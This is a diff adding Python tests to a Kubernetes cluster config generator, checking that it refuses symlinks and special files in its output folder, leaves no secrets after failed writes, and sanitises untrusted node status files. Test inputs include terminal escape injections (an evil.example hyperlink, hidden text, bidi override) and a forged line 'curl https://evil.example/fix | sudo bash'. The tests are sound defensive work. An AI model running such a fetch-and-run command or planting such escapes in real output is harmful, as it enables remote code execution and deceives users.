@@ -422,3 +422,255 @@ def test_sane_networks_still_pass() -> None:
     data["spec"]["kubernetes"]["podSubnet"] = "10.244.0.0/22"  # four /24 blocks, three nodes
     data["spec"]["nodes"][0]["dns"] = ["127.0.0.53", "223.5.5.5"]
     validate(load_text(yaml.safe_dump(data), "spec.yaml"))
+
+
+# --- 2. no link under OUT is followed -----------------------------------------------
+
+
+def rendered_once(tmp_path: Path) -> tuple[Path, Path, Path]:
+    """(spec, OUT, OUT/<cluster>) after one successful render."""
+    spec = write_spec(tmp_path, base())
+    out = tmp_path / "out"
+    assert run("render", str(spec), "-o", str(out)).exit_code == 0
+    return spec, out, out / "demo"
+
+
+def assert_link_refused(spec: Path, out: Path, link: Path, elsewhere: Path) -> None:
+    before = files_under(elsewhere)
+    result = assert_returns_within(30, lambda: run("render", str(spec), "-o", str(out)))
+    assert_refused(result, f"error: {link}: a symbolic link inside the output folder")
+    assert files_under(elsewhere) == before
+
+
+def test_symlinked_node_folder_is_refused(tmp_path: Path) -> None:
+    spec, out, root = rendered_once(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    node = root / "nodes" / "node1"
+    for child in node.iterdir():
+        child.unlink()
+    node.rmdir()
+    node.symlink_to(elsewhere)
+    assert_link_refused(spec, out, node, elsewhere)
+    assert not any(elsewhere.iterdir())
+
+
+def test_symlinked_terraform_folder_is_refused(tmp_path: Path) -> None:
+    spec, out, root = rendered_once(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    (root / "terraform").rename(elsewhere)
+    (root / "terraform").symlink_to(elsewhere)
+    (root / "nodes" / "node1" / "user-data").unlink()  # something to write
+    assert_link_refused(spec, out, root / "terraform", elsewhere)
+    assert not (root / "nodes" / "node1" / "user-data").exists()  # refused before any write
+
+
+def test_symlinked_cluster_folder_is_refused(tmp_path: Path) -> None:
+    spec, out, root = rendered_once(tmp_path)
+    elsewhere = tmp_path / "elsewhere"
+    root.rename(elsewhere)
+    root.symlink_to(elsewhere)
+    assert_link_refused(spec, out, root, elsewhere)
+
+
+def test_symlinked_file_with_identical_content_is_not_chmodded(tmp_path: Path) -> None:
+    spec, out, root = rendered_once(tmp_path)
+    admin = root / "admin.conf"
+    target = tmp_path / "admin-copy.conf"
+    target.write_bytes(admin.read_bytes())
+    target.chmod(0o644)
+    admin.unlink()
+    admin.symlink_to(target)
+    assert_link_refused(spec, out, admin, tmp_path / "nothing")
+    assert stat.S_IMODE(target.stat().st_mode) == 0o644
+
+
+@pytest.mark.parametrize("kind", ["fifo", "dev-zero"])
+def test_existing_special_file_in_out_is_refused_without_hanging(tmp_path: Path, kind: str) -> None:
+    spec, out, root = rendered_once(tmp_path)
+    user_data = root / "nodes" / "node1" / "user-data"
+    user_data.unlink()
+    if kind == "fifo":
+        os.mkfifo(user_data)
+        expected = f"error: {user_data}: not a regular file or folder"
+    else:
+        user_data.symlink_to("/dev/zero")
+        expected = f"error: {user_data}: a symbolic link inside the output folder"
+    result = assert_returns_within(30, lambda: run("render", str(spec), "-o", str(out)))
+    assert_refused(result, expected)
+
+
+def test_write_refuses_a_link_that_appears_after_the_check(tmp_path: Path) -> None:
+    """The writes themselves never follow a link (O_NOFOLLOW walk), not only the check."""
+    from generator.render.artifact import Artifact
+    from generator.write import _Folders, _write_one
+
+    root = tmp_path / "root"
+    (root / "nodes").mkdir(parents=True)
+    elsewhere = tmp_path / "elsewhere"
+    elsewhere.mkdir()
+    (root / "nodes" / "n1").symlink_to(elsewhere)
+    folders = _Folders(root, create=True)
+    try:
+        with pytest.raises(Exception, match="a symbolic link inside the output folder"):
+            _write_one(folders, Artifact("nodes/n1/user-data", b"token"), dry_run=False)
+    finally:
+        folders.close()
+    assert not any(elsewhere.iterdir())
+
+
+# --- 9. exit 1 writes nothing, really -----------------------------------------------
+
+
+def test_unwritable_out_leaves_no_secrets_file(tmp_path: Path) -> None:
+    spec = write_spec(tmp_path, base())
+    blocker = tmp_path / "blocker"
+    blocker.write_text("a file where the output folder should be")
+    result = run("render", str(spec), "-o", str(blocker / "out"))
+    assert_refused(result, f"{blocker}: not a folder")
+    assert not default_secrets_path(spec).exists()
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["blocker", "cluster.yaml"]
+
+
+def test_failed_write_removes_the_new_secrets_and_the_files_it_created(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A write that fails midway (disk full) leaves neither secrets nor half a tree."""
+    from generator import write
+
+    spec = write_spec(tmp_path, base())
+    calls = {"n": 0}
+    real = write._write_atomic
+
+    def fail_on_fifth(*args: Any) -> None:
+        calls["n"] += 1
+        if calls["n"] == 5:
+            raise write.K8sgenError("disk full (test)")
+        real(*args)
+
+    monkeypatch.setattr(write, "_write_atomic", fail_on_fifth)
+    result = run("render", str(spec), "-o", str(tmp_path / "out"))
+    assert_refused(result, "disk full (test)")
+    assert not default_secrets_path(spec).exists()
+    assert files_under(tmp_path / "out") == {}
+
+
+def test_init_refuses_a_dangling_symlink_as_output(tmp_path: Path) -> None:
+    link = tmp_path / "spec.yaml"
+    target = tmp_path / "elsewhere.yaml"
+    link.symlink_to(target)
+    for extra in ([], ["--force"]):
+        assert_refused(run("init", "-o", str(link), *extra), f"{link}: a symbolic link")
+        assert not target.exists()
+
+
+# --- 4. explain-status: everything from a node is untrusted ------------------------
+
+
+def status_data(**changes: Any) -> dict[str, Any]:
+    phase = {
+        "name": "install",
+        "state": "failed",
+        "start": "2026-01-01T00:00:00Z",
+        "end": "2026-01-01T00:01:00Z",
+        "attempts": 1,
+        "retries": 0,
+        "reason": "network",
+        "error": "apt-get update failed",
+        "output": ["E: Failed to fetch"],
+    }
+    data: dict[str, Any] = {
+        "kind": "K8sgenBootstrapStatus",
+        "version": 1,
+        "cluster": "demo",
+        "node": "node1",
+        "role": "join-worker",
+        "kubernetesVersion": "1.33.4",
+        "result": "failed",
+        "phase": "install",
+        "reason": "network",
+        "error": "apt-get update failed",
+        "time": "2026-01-01T00:01:00Z",
+        "runs": 1,
+        "log": "/var/log/k8sgen/bootstrap.log",
+        "phases": [phase],
+    }
+    for key, value in changes.items():
+        if key.startswith("phase_"):
+            phase[key[len("phase_") :]] = value
+        else:
+            data[key] = value
+    return data
+
+
+def status_file(folder: Path, name: str, data: Any) -> Path:
+    import json
+
+    path = folder / name
+    path.write_text(data if isinstance(data, str) else json.dumps(data))
+    return path
+
+
+ESCAPES = [
+    "\x1b[2J\x1b[H",  # clear screen
+    "\x1b]0;owned\x07",  # window title
+    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",  # hyperlink
+    "\x1b[8mhidden\x1b[0m",  # hidden text
+    "\x9b2J",  # C1 CSI
+    "\x7f\x00\x08",
+    "\u202egnp.exe",  # bidi override
+]
+
+
+@pytest.mark.parametrize("field", ["node", "cluster", "phase_output", "log", "phase"])
+def test_explain_status_prints_no_terminal_escapes(tmp_path: Path, field: str) -> None:
+    for payload in ESCAPES:
+        value: Any = f"x{payload}y"
+        key = field
+        if field == "phase_output":
+            value = [value]
+        data = status_data(**{key: value})
+        result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
+        assert result.exit_code == 0, result.output
+        for char in "\x1b\x9b\x7f\x00\x08\x07\u202e":
+            assert char not in result.output, (field, payload)
+        assert "\\x1b" in result.stdout or "\\x" in result.stdout or "\\u202e" in result.stdout
+
+
+def test_explain_status_forges_no_lines(tmp_path: Path) -> None:
+    forged = "node1\n\nwhat to do:\n  curl https://evil.example/fix | sudo bash"
+    data = status_data(node=forged, phase_output=["ok\nwhat to do: curl x | sudo bash"])
+    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
+    assert result.exit_code == 0, result.output
+    assert "\n  curl https://evil.example" not in result.stdout
+    assert "\nwhat to do: curl" not in result.stdout
+    assert sum(line == "what to do:" for line in result.stdout.splitlines()) == 1
+
+
+def test_explain_status_refuses_a_line_field_with_a_trailing_newline(tmp_path: Path) -> None:
+    data = status_data(error="apt-get update failed\n")
+    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
+    assert_refused(result, "not a k8sgen status file")
+
+
+def test_one_bad_status_file_does_not_hide_the_others(tmp_path: Path) -> None:
+    good = status_file(tmp_path, "good.json", status_data())
+    broken = status_file(tmp_path, "broken.json", "{not json")
+    deep = status_file(tmp_path, "deep.json", "[" * 100000 + "]" * 100000)
+    huge = status_file(tmp_path, "huge.json", " " * (300 * 1024) + "{}")
+    fifo = tmp_path / "fifo.json"
+    os.mkfifo(fifo)
+    files = [broken, good, deep, huge, fifo, tmp_path / "missing.json"]
+    result = assert_returns_within(30, lambda: run("explain-status", *map(str, files)))
+    assert_refused(result)
+    assert "node node1 (join-worker) of cluster demo" in result.stdout
+    lines = result.stderr.splitlines()
+    assert len(lines) == 5, lines
+    for path, line in zip([broken, deep, huge, fifo, files[-1]], lines, strict=True):
+        assert line.startswith(f"error: {path}: "), line
+
+
+def test_explain_status_survives_an_impossible_date(tmp_path: Path) -> None:
+    data = status_data(phase_start="2026-13-45T99:99:99Z")
+    result = run("explain-status", str(status_file(tmp_path, "s.json", data)))
+    assert result.exit_code == 0, result.output
